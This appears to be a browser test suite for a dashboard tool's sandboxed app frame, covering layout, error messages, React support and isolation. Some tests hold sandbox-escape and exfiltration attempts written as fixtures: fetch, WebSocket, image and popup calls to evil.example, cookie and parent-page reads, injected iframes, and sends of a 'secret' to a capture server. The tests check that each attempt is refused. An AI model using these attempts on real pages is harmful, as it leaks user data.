import { setTimeout as sleep } from 'node:timers/promises'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import type { Scene } from '../../packages/pictures/scene.ts'
import { openPreview } from '../../src/previews/page/open.ts'
import { type PreviewServer, startPreview } from '../../src/previews/server/server.ts'
import { LEAVING, NAVIGATING, useAway, WAYS_OUT } from './away.ts'
import { holdBack, inPage, type PageWishes, serveScenes, useBrowser } from './support.ts'

const browser = useBrowser()
const { received, connections, address } = useAway()
const scenes: Record<string, Scene> = {}
let preview: PreviewServer
let count = 0

beforeAll(async () => {
  preview = await serveScenes(scenes)
})
afterAll(() => preview.close())

async function run(files: Readonly<Record<string, string>>, more: object = {}, wishes: PageWishes = {}) {
  const slug = `app-${++count}`
  scenes[slug] = {
    title: 'App',
    dashboard: { kind: 'APP', app: { entry: Object.keys(files)[0] ?? null, files, ...more } },
    reports: {
      'report/sales0000001': { name: 'Sales', publicId: 'sales0000001', sql: 'select city, sum(x) as x from y' },
    },
  }
  const opened = await browser.open(`${preview.url}/#/${slug}`, wishes)
  await opened.page.locator(`.pv-stage[data-shows="${slug}"] .bw-app[data-drawn="true"]`).waitFor()
  return { ...opened, frame: opened.page.frameLocator('.bw-app iframe') }
}

/** Until the test ends, a second of the page is a tenth of one. */
async function hurry(): Promise<void> {
  const { page } = await browser.open(`${preview.url}/`)
  await page.evaluate('{ const slow = setInterval; setInterval = (act, ms) => slow(act, ms / 10) }')
  onTestFinished(async () => void (await page.goto('about:blank')))
}

/** An app that runs this code as an app in a page within its own, with the script that runs apps. */
const within = (code: string): string => `
  const files = { 'main.js': ${JSON.stringify(`const tell = (text) => parent.postMessage({ told: text }, '*')\n${code}`)} }
  const frame = document.createElement('iframe')
  addEventListener('message', ({ source, data }) => {
    if (source !== frame.contentWindow) return
    if (data.say === 'ready') source.postMessage({ boardwright: 1, say: 'start', app: { entry: 'main.js', files } }, '*')
    if (data.told !== undefined) document.body.dataset.told = data.told
  })
  frame.srcdoc = '<body><script src="/viewer/frame.js"></' + 'script>'
  document.body.append(frame)`

const BEANS = `interface Bean { readonly size: number }
export function beans(): never {
  throw new Error('no beans' as string)
}`

test('the app of acme: TypeScript, JSX, hooks, styles, rows of its reports', async () => {
  const source = await openPreview('examples/acme', {
    today: '2026-11-20',
    data: 'sample',
    env: {},
    onChange: () => {},
  })
  const acme = await startPreview(source)
  try {
    const { page, troubles } = await browser.open(`${acme.url}/#/order-explorer`)
    const frame = page.frameLocator('iframe[title="Order explorer"]')
    await expect
      .poll(() => frame.getByRole('heading', { level: 1 }).innerText())
      .toMatch(/^(Guete Morge ☕|Grüezi mitenand)$/)
    await frame.getByRole('listitem').nth(11).waitFor()
    const hours = frame.locator('section i')
    await expect.poll(() => hours.count()).toBeGreaterThan(6 * 24)
    await expect.poll(() => hours.count()).toBeLessThanOrEqual(7 * 24)
    const bern = frame.getByRole('button', { name: /^Bern/ })
    const shares = async () =>
      (await frame.locator('.cafes b').allInnerTexts()).map((each) => Number.parseInt(each, 10))
    await expect.poll(async () => (await shares()).toSorted((a, b) => b - a)).toEqual(await shares())
    await bern.click()
    await expect.poll(() => frame.getByRole('listitem').filter({ has: bern }).getAttribute('aria-current')).toBe('true')
    await bern.click()
    await expect.poll(() => frame.locator('[aria-current="true"]').count()).toBe(0)
    expect(troubles).toEqual([])
  } finally {
    await acme.close()
    await source.close()
  }
})

const heightOf = (page: Page) =>
  page.locator('.bw-app iframe').evaluate(inPage<number>('(frame) => frame.clientHeight'))

describe('an app', () => {
  test.each([390, 1024])('is as tall as what is in it, also when that changes, at %i px', async (width) => {
    const { page, frame } = await run(
      {
        'main.js': `document.body.innerHTML = '<div style="height: 2500px"></div><button>less</button>'; document.querySelector('button').onclick = () => document.querySelector('div').style.height = '1400px'`,
      },
      {},
      { width, height: 900 },
    )
    await expect.poll(() => heightOf(page)).toBeGreaterThan(2_500)
    await frame.getByRole('button').click()
    await expect.poll(() => heightOf(page)).toBeLessThan(1_500)
  })

  test('leaves no empty frame below it on a narrow page that is tall', async () => {
    const { page } = await run(
      { 'main.js': `document.body.innerHTML = '<div style="height: 600px"></div>'` },
      {},
      { width: 390, height: 1600 },
    )
    await expect.poll(() => heightOf(page)).toBeGreaterThanOrEqual(600)
    await expect.poll(() => heightOf(page)).toBeLessThan(650)
  })

  test.each([
    ['that grows with its frame', `document.body.style.minHeight = 'calc(100vh + 100px)'`],
    ['that says it is endless', `parent.postMessage({ boardwright: 1, say: 'tall', height: 1e12 }, '*')`],
  ])('%s is not endless', async (_, code) => {
    const { page } = await run({ 'main.js': code })
    await sleep(1_000)
    await expect.poll(() => heightOf(page)).toBeLessThanOrEqual(6_000)
  })

  test('that stops is counted as an error, with its place in the file', async () => {
    const { page } = await run({ 'src/main.tsx': 'const a = 1\nexport const b = <div><b></div>' })
    preview.changed()
    await page.getByRole('button', { name: '1 error' }).waitFor()
    const problems = page.getByRole('region', { name: 'Problems' })
    const place = `app-${count}/app/src/main.tsx:2:32`
    await expect.poll(() => problems.getByRole('link').innerText()).toBe(place)
    await expect.poll(() => problems.getByRole('link').getAttribute('href')).toBe(`vscode://file/home/me/${place}`)
    await expect.poll(() => problems.locator('pre').innerText()).toMatch(/ 2 \| export const b = .*\n.*\^$/)
    await expect.poll(() => problems.innerText()).toContain('The app stopped: Unexpected token')
  })

  test('reaches neither the network nor the page around it', async () => {
    const { frame, troubles } = await run({
      'main.js': `
        const tried = {}
        const attempt = async (name, act) => { try { tried[name] = String(await act()) } catch { tried[name] = 'refused' } }
        await attempt('fetch', () => fetch('https://evil.example/'))
        await attempt('own server', () => fetch('/overview'))
        await attempt('page', () => parent.document.title)
        await attempt('top', () => { top.location.href = 'https://evil.example/' })
        await attempt('storage', () => localStorage.length)
        await attempt('cookie', () => document.cookie)
        await attempt('rtc', () => new RTCPeerConnection())
        await attempt('socket', () => new Promise((done, fail) => { const socket = new WebSocket('wss://evil.example/'); socket.onopen = done; socket.onerror = fail }))
        await attempt('image', () => new Promise((done, fail) => { const image = new Image(); image.onload = done; image.onerror = fail; image.src = 'https://evil.example/x.png' }))
        const inside = (set) => new Promise((done, fail) => {
          addEventListener('message', ({ data }) => data?.inside && done(data.inside))
          setTimeout(fail, 400)
          const frame = document.createElement('iframe')
          set(frame)
          document.body.append(frame)
        })
        const code = '<script>parent.postMessage({ inside: typeof RTCPeerConnection }, "*")</' + 'script><img src=x onerror="parent.postMessage({ inside: 1 }, '*')">'
        await attempt('page inside', () => inside((frame) => { frame.srcdoc = code }))
        await attempt('page in data', () => inside((frame) => { frame.src = 'data:text/html,' + encodeURIComponent(code) }))
        await attempt('page from a blob', () => inside((frame) => { frame.src = URL.createObjectURL(new Blob([code], { type: 'text/html' })) }))
        await attempt('empty page inside', () => { const frame = document.createElement('iframe'); document.body.append(frame); return frame.contentWindow.RTCPeerConnection })
        const script = URL.createObjectURL(new Blob(['parent.postMessage({ inside: 1 }, "*")'], { type: 'text/javascript' }))
        for (const type of ['', 'type="module"'])
          await attempt('script of its own inside' + type, () => inside((frame) => { frame.srcdoc = '<script ' + type + ' src="' + script + '"></' + 'script>' }))
        await attempt('popup', () => { if (open('https://evil.example/') === null) throw 0 })
        document.body.innerHTML = '<pre id="tried"></pre>'
        document.getElementById('tried').textContent = JSON.stringify(tried)`,
    })
    const tried: Record<string, string> = JSON.parse(await frame.locator('#tried').innerText())
    expect(new Set(Object.values(tried)), JSON.stringify(tried)).toEqual(new Set(['refused']))
    expect(troubles.filter((each) => each.startsWith('request:') || each.startsWith('dialog:'))).toEqual([])
  })

  test('that loops for ever is stopped, and the page goes on working', async () => {
    await hurry()
    const { page } = await run({
      'main.js': `document.body.textContent = 'running'; setTimeout(() => { for (;;) {} }, 50)`,
    })
    await page.getByRole('alert').getByText('The app does not answer any more, and was stopped.').waitFor()
    await page.getByRole('searchbox').fill('app')
    await expect.poll(() => page.locator('.bw-app iframe').count()).toBe(0)
  })

  test('waits for a slow line', async () => {
    const { page } = await browser.open('about:blank')
    const letGo = await holdBack(page, '**/viewer/frame.js')
    void page.waitForRequest('**/viewer/frame.js').then(() => setTimeout(letGo, 6_000))
    const { frame } = await run({ 'main.js': `document.body.textContent = 'running'` })
    await frame.getByText('running').waitFor()
  })

  test('ignores messages that other windows send in its name', async () => {
    const { page, frame } = await run({ 'main.js': `document.body.textContent = 'running'` })
    await page.evaluate(`new Promise(done => {
      addEventListener('message', () => setTimeout(done), { once: true })
      postMessage({ boardwright: 1, say: 'failed', text: 'not from the app' }, '*')
    })`)
    await expect.poll(() => page.getByRole('alert').count()).toBe(0)
    await expect.poll(() => frame.getByText('running').count()).toBe(1)
    await expect.poll(() => page.locator('.bw-app iframe').getAttribute('sandbox')).toBe('allow-scripts')
  })

  test.each<[reason: string, files: Readonly<Record<string, string>>, said: string, more?: object]>([
    ['an error as it starts', { 'main.js': `\nthrow new Error('no beans')` }, 'main.js:2: no beans'],
    [
      'an error of a file that it imports',
      { 'main.ts': `import { beans } from './beans'\nbeans()`, 'beans.ts': BEANS },
      'beans.ts:3: no beans',
    ],
    [
      'an error later on',
      { 'main.ts': `import { beans } from './beans'\nsetTimeout(beans)`, 'beans.ts': BEANS },
      'beans.ts:3: no beans',
    ],
    [
      'an error of a component',
      {
        'main.tsx': `import { createRoot } from 'react-dom/client'\nconst App = () =>\n  <b>{null!.beans}</b>\ncreateRoot(document.body).render(<App />)`,
      },
      "main.tsx:3: Cannot read properties of null (reading 'beans')",
    ],
    ['a file that cannot be read', { 'main.tsx': 'const x = (\n  <div><b></div>' }, 'main.tsx:2:17: Unexpected token'],
    [
      'what only the browser sees is wrong',
      { 'main.js': `import './twice.js'`, 'twice.js': 'let a = 1\nlet a = 2' },
      "twice.js:2: Identifier 'a' has already been declared",
    ],
    [
      'a name that a file does not export',
      { 'main.js': `import { beans } from './beans.js'\nbeans()`, 'beans.js': '' },
      "main.js:1: The requested module 'beans.js' does not provide an export named 'beans'",
    ],
    [
      'a package that is not here',
      { 'main.tsx': `import * as d3 from 'd3'\nd3.select('x')` },
      'it needs d3, which is not on this page',
    ],
    [
      'files in a circle',
      { 'a.js': `import './b.js'`, 'b.js': `import './a.js'` },
      'its files import each other in a circle: a.js -> b.js -> a.js',
    ],
    ['a missing entry', { 'main.js': '' }, 'its entry gone.js is not among its files', { entry: 'gone.js' }],
  ])('says why it stopped: %s', async (_, files, said, more) => {
    const { page } = await run(files, more)
    await expect.poll(() => page.getByRole('alert').innerText()).toBe(`The app stopped: ${said}`)
  })

  test('can use the React that it was written for: classes, boundaries, portals, lazy parts; and TypeScript that has effects', async () => {
    const { page, frame, troubles } = await run({
      'main.tsx': `
        import React, { Component, createContext, lazy, ReactNode, StrictMode, Suspense, useContext, useId } from 'react'
        import { createPortal } from 'react-dom'
        import { createRoot } from 'react-dom/client'
        import { Money, Stage } from './model'

        const Details = lazy(() => import('./details'))
        const Currency = createContext('EUR')

        class Boundary extends Component<{ children: ReactNode }, { failed?: Error }> {
          override state: { failed?: Error } = {}
          static getDerivedStateFromError = (failed: Error) => ({ failed })
          override render() {
            return this.state.failed ? <p role="note">caught: {this.state.failed.message}</p> : this.props.children
          }
        }
        class Counter extends React.PureComponent<{ by: number }> {
          override state = { count: 0 }
          override componentDidMount() { document.title = 'mounted' }
          private add = (): void => this.setState(({ count }) => ({ count: count + this.props.by }))
          override render() { return <button onClick={this.add}>counted {this.state.count}</button> }
        }
        const Broken = (): never => { throw new Error('no beans') }
        const Price = ({ of }: { of: Money }) => <output>{String(of)} {useContext(Currency)}</output>
        const Field = () => {
          const id = useId()
          const [said, say] = React.useState('')
          return <><label htmlFor={id}>Name</label><input id={id} onChange={(event) => say(event.target.value)} /><em>{said}</em></>
        }

        createRoot(document.getElementById('root')!).render(
          <StrictMode>
            <Boundary><Broken /></Boundary>
            <Counter by={2} />
            <Currency.Provider value="CHF"><Price of={new Money(12)} /></Currency.Provider>
            <Field />
            <ul>{[Stage.Open, Stage.Paid].map((stage) => <li key={stage} style={{ paddingLeft: 4 }}>{Stage[stage]}</li>)}</ul>
            <Suspense fallback={<p>waiting</p>}><Details name="lazy" /></Suspense>
            {createPortal(<aside>elsewhere</aside>, document.body)}
          </StrictMode>,
        )`,
      'model.ts': `
        export enum Stage { Open, Paid = 4 }
        export class Money {
          constructor(readonly amount: number, private readonly digits = 2) {}
          toString(): string { return this.amount.toFixed(this.digits) }
        }`,
      'details.tsx': `export default ({ name }: { name: string }) => <p className="late">details, {name}</p>`,
    })
    await frame.getByText('details, lazy').waitFor()
    await expect.poll(() => frame.getByRole('note').innerText()).toBe('caught: no beans')
    await frame.getByRole('button', { name: 'counted 0' }).click()
    await frame.getByRole('button', { name: 'counted 2' }).waitFor()
    await frame.getByLabel('Name').pressSequentially('ada')
    await expect.poll(() => frame.locator('em').innerText()).toBe('ada')
    await expect.poll(() => frame.locator('output').innerText()).toBe('12.00 CHF')
    await expect.poll(() => frame.getByRole('listitem').allInnerTexts()).toEqual(['Open', 'Paid'])
    await expect.poll(() => frame.locator('body > aside').innerText()).toBe('elsewhere')
    await expect.poll(() => page.getByRole('alert').count()).toBe(0)
    expect(troubles).toEqual([])
  })

  test.each(WAYS_OUT.filter(([name]) => LEAVING.has(name)))(
    'that navigates away with %s is stopped, and reaches nobody',
    async (_, code) => {
      await hurry()
      const send = `const send = (how) => '${address()}/' + how`
      const { page } = await run({ 'main.js': `${send}\nsetTimeout(() => { ${code} }, 10)` })
      await page.getByText('The app does not answer any more, and was stopped.').waitFor()
      expect(received).toEqual([])
    },
  )

  test('can be one HTML page with scripts in it', async () => {
    const html = `<!doctype html><html lang="de"><head><style>b { color: rgb(1, 2, 3) }</style></head><body><b onclick="this.textContent = 'clicked'">start</b><script>document.querySelector('b').textContent = 'script'</script></body></html>`
    const { frame } = await run({}, { entry: null, html })
    await frame.getByText('script').click()
    await frame.getByText('clicked').waitFor()
  })
})

/** After all others: so many tries leave the browser with processes that pages share, and an app may block its own. */
describe('an app that tries every way out', () => {
  test.each([
    ['', (code: string) => `const tell = (text) => { document.body.dataset.told = text }\n${code}`],
    [' from a page that it makes within its own', within],
  ])('sends nothing away%s, in any way that pages have', async (_, place) => {
    const held = `['RTCPeerConnection', 'webkitRTCPeerConnection', 'WebTransport'].filter((name) => name in globalThis)`
    const tryAll = async (ways: typeof WAYS_OUT) => {
      const tries = ways.map(([, code]) => `try { ${code} } catch {}`).join('\n')
      const send = `const send = (how) => '${address()}/' + how + '?secret'`
      const { page, frame } = await run({ 'main.js': place(`${send}\n${tries}\ntell('holds ' + ${held})`) })
      await expect.poll(() => frame.locator('body').getAttribute('data-told')).toBe('holds ')
      await sleep(1_000)
      expect(received).toEqual([])
      expect(page.url()).toMatch(new RegExp(`^${preview.url}/#/app-\\d+$`))
      expect(page.context().pages()).toHaveLength(1)
    }
    await tryAll(WAYS_OUT.filter(([name]) => !NAVIGATING.has(name)))
    expect(connections).toEqual([])
    await tryAll(WAYS_OUT.filter(([name]) => NAVIGATING.has(name) && !LEAVING.has(name)))
  })
})
